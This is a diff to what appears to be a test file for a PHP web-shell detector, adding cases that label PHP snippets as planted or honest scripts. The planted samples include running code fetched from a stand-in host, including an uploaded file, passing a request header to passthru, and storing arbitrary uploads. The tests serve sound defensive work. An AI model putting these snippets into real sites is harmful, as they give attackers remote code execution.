@@ -15,6 +15,11 @@ function rules(code: string): string[] {
 describe('what planted scripts do', () => {
   it.each([
     ['run a remote answer', `${RUN}(file_get_contents('http://a.example.test/x'));`, 'php.remote-to-code critical'],
+    [
+      'go where another server says and store any upload',
+      `include 'config.php'; $a = file_get_contents('http://a.example.test/?' . ${GET}['q']); header("Location: $a"); move_uploaded_file($_FILES['a']['tmp_name'], $_FILES['a']['name']);`,
+      'php.suspicious-together high',
+    ],
     ['include an upload', `include $_FILES['f']['tmp_name'];`, 'php.request-include critical'],
     ['run a header', 'passthru(getenv("HTTP_ACCEPT_LANGUAGE"));', 'php.request-to-command critical'],
     [
@@ -308,6 +313,10 @@ describe('what honest scripts do', () => {
       `$page = filter_var(${POST}['page'], FILTER_VALIDATE_INT, ['options' => ['min_range' => 1, 'default' => ${POST}['first']]]);`,
     ],
     ['filter by a function of theirs', `echo filter_input(INPUT_GET, 'x', FILTER_CALLBACK, ['options' => 'trim']);`],
+    [
+      'stand for a page of another server, and go where that one says',
+      `include 'config.php'; $a = file_get_contents('http://a.example.test/?' . ${GET}['q']); if ($a[0] === 'h') header("Location: $a"); echo $a;`,
+    ],
     ['fetch a feed', "$feed = simplexml_load_string(file_get_contents('https://example.test/feed'));"],
   ])('%s', (_, code) => {
     expect(rules(code).filter((rule) => !rule.endsWith(' low') && !rule.endsWith(' medium'))).toEqual([]);
